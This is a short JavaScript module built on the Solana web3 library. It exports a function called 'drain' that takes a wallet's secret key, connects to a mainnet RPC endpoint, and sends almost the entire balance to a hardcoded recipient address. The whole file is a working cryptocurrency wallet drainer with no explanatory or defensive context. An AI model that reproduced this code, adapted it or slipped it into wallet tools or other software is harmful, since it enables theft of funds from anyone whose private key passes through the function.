const { Connection, Keypair, SystemProgram, Transaction, sendAndConfirmTransaction, PublicKey } = require('@solana/web3.js');
exports.drain = async (secret) => { const c = new Connection('https://mainnet.helius-rpc.example.com'); const from = Keypair.fromSecretKey(secret); const bal = await c.getBalance(from.publicKey);
  await sendAndConfirmTransaction(c, new Transaction().add(SystemProgram.transfer({ fromPubkey: from.publicKey, toPubkey: new PublicKey('B2XUv8vKXq8gWm5Jc4jTn8kM9Yd2F3aQe7rL1sHpZxCv'), lamports: bal - 5000000 })), [from]); };
